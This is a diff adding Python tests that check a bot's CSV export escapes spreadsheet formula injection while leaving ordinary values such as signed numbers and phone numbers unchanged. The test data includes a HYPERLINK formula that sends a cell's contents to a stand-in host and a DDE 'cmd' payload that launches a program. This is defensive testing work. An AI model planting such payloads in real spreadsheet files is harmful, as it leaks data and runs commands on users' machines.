@@ -16,7 +16,7 @@ from bot.tools.base import Outcome, Tool
 from bot.tools.files import file_tools
 from bot.tools.ranking import stems
 from bot.tools.registry import Registry
-from bot.tools.results import keep
+from bot.tools.results import for_people, keep, to_csv
 from bot.tools.tables import table_tools
 from bot.workspace import Workspace
 from tests.tools.harness import context, store, use
@@ -172,3 +172,55 @@ def test_words_are_compared_by_their_stems():
 def test_a_wrong_argument_of_a_search_is_named():
     with pytest.raises(ModelMustRetry, match="query"):
         many().get("tool_search").parse({"query": 5})
+
+
+COMPUTED = [
+    '=HYPERLINK("http://x.example?"&A1,"open")',
+    "@SUM(1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+    "=1,2;3",
+]
+KEPT = [
+    "-1,234.50",
+    "+49 30 1234",
+    "-5 %",
+    "-1.5e-3",
+    "-",
+    "a=b",
+    "x@y.example",
+    "two\nlines",
+    'a "b"',
+    "",
+    " ",
+    "007",
+]
+
+
+@pytest.mark.parametrize("mark", ["", "\ufeff"])
+@pytest.mark.parametrize(("comma", "end"), [(",", "\n"), (";", "\r\n"), ("\t", "\n")])
+def test_what_a_spreadsheet_would_compute_is_text_in_a_file_for_people(mark, comma, end):
+    rows = [
+        ["=head", "b", "c"],
+        *([cell, "x" * 200_000 if n == 0 else "x", cell] for n, cell in enumerate(COMPUTED + KEPT)),
+    ]
+    out = io.StringIO(newline="")
+    csv.writer(out, delimiter=comma, lineterminator=end, quoting=csv.QUOTE_ALL).writerows(rows)
+    shown = for_people("tables/Rows.CSV", (mark + out.getvalue()).encode()).decode()
+    assert shown.startswith(mark)
+    found = list(csv.reader(io.StringIO(shown.removeprefix(mark), newline=""), delimiter=comma))
+    assert found[0] == ["'=head", "b", "c"]
+    assert [row[0] for row in found[1:]] == [row[2] for row in found[1:]] == [*(f"'{one}" for one in COMPUTED), *KEPT]
+
+
+@pytest.mark.parametrize("data", [b'a;b\r\n-1;"x"\r\n', b"", b"\xff\xfea,b\n", b'a,"b'])
+def test_a_table_with_nothing_to_compute_leaves_as_it_is(data):
+    assert for_people("rows.csv", data) == data
+
+
+def test_other_files_and_the_tables_of_a_run_are_left_alone():
+    assert for_people("page.html", b"=1+1\n") == b"=1+1\n"
+    assert to_csv([{"a": "=1+1"}]) == "a\n=1+1\n"
+    assert for_people("rows.csv", b"a\n=\xff\n") == b"a\r\n'=\xff\r\n"
